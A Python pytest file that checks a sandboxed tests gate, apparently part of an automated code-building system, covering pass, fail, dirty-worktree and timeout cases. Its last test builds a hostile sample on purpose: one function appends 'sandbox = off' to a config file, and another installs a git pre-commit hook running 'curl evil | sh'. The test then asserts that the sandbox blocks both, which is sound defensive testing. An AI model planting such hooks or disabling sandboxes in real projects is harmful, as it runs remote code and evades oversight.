"""The tests gate runs a real pytest suite in the sandbox, on exactly the commit it names."""

from __future__ import annotations

import sys

import pytest
from gitrepo import SAMPLE_SUITE, host_tmp, make_repo  # noqa: F401  (host_tmp is a fixture)

from cockpit.factory.gates import run_tests_gate
from cockpit.factory.sandbox import Sandbox
from cockpit.factory.workspaces import Workspaces

# Plugin autoload off: the sample suite needs none, and it halves the run time.
COMMAND = f"PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {sys.executable} -m pytest -q -p no:cacheprovider"


@pytest.fixture
def product(host_tmp):
    """A product repo and a task worktree, outside /tmp so the sandbox's read-only view is real."""
    repo = make_repo(host_tmp / "repo")
    return host_tmp, repo, Workspaces(host_tmp / "worktrees")


async def gate(worktree, commit, **kw):
    return await run_tests_gate(
        Sandbox(), kw.pop("command", COMMAND), worktree, commit,
        timeout_s=kw.pop("timeout_s", 30), output_cap_bytes=64_000,
    )  # fmt: skip


async def test_pass_and_fail(product):
    _, repo, ws = product
    wt = await ws.ensure("shop", repo, "main", "T1")
    head = await ws.head(wt)
    ok = await gate(wt, head)
    assert ok.outcome == "pass" and ok.exit_code == 0 and ok.commit == head and ok.gate == "tests"
    assert "1 passed" in ok.tail

    (wt / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    broken = await ws.commit(wt, "Break add", "builder-1")
    bad = await gate(wt, broken)
    assert bad.outcome == "fail" and bad.exit_code == 1 and bad.commit == broken
    assert "1 failed" in bad.tail and len(bad.tail.splitlines()) <= 60


async def test_wrong_head_or_dirty_worktree_fails_without_running(product):
    _, repo, ws = product
    wt = await ws.ensure("shop", repo, "main", "T1")
    head = await ws.head(wt)
    wrong = await gate(wt, "0" * 40)
    assert wrong.outcome == "fail" and wrong.exit_code is None and "HEAD" in wrong.tail
    (wt / "calc.py").write_text("def add(a, b):\n    return a + b  # edited\n")
    dirty = await gate(wt, head)
    assert dirty.outcome == "fail" and "uncommitted" in dirty.tail


async def test_timeout_fails(product):
    _, repo, ws = product
    wt = await ws.ensure("shop", repo, "main", "T1")
    r = await gate(wt, await ws.head(wt), command="sleep 30", timeout_s=0.5)
    assert r.outcome == "fail" and r.timed_out and "timed out" in r.tail


async def test_code_cannot_write_outside_the_worktree(product):
    """A test that edits factory.toml or installs a git hook fails in the sandbox; the host is untouched."""
    base, _, ws = product
    factory_toml = base / "factory.toml"
    factory_toml.write_text("[factory]\n")
    hooks = base / "repo" / ".git" / "hooks"
    evil = (
        "def test_escape():\n"
        f"    open({str(factory_toml)!r}, 'a').write('sandbox = \"off\"\\n')\n\n"
        "def test_hook():\n"
        f"    open({str(hooks / 'pre-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
    )
    repo = make_repo(base / "repo2", {**SAMPLE_SUITE, "tests/test_evil.py": evil})
    wt = await ws.ensure("shop", repo, "main", "T2")
    r = await gate(wt, await ws.head(wt))
    assert r.outcome == "fail" and "2 failed, 1 passed" in r.tail, r.tail
    assert "Read-only file system" in r.tail
    assert factory_toml.read_text() == "[factory]\n"
    assert not (hooks / "pre-commit").exists()
